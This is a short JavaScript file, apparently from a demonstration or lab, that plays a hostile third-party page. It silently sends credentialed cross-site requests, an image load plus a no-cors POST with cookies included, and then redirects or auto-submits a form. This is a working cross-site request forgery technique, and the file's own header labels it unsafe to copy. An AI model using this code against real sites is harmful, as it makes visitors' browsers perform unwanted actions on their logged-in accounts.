// UNSAFE TO COPY. It plays the page of another site: it sends what any site can make a visitor's browser send.

const PAUSE_MS = 600; // so that it can be seen

const move = JSON.parse(document.getElementById("move").textContent);

/** What needs no window of its own: requests whose answers this page may not read, and does not need to. */
async function inTheBackground({ url, text }) {
  const image = new Image();
  image.src = url;
  await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ text }) }).catch(() => {}); // sent, and not shown
}

await Promise.all(move.before.map(inTheBackground));
await new Promise((resolve) => setTimeout(resolve, PAUSE_MS));
if (move.method === "GET") location.replace(move.url);
else document.forms[0].submit();
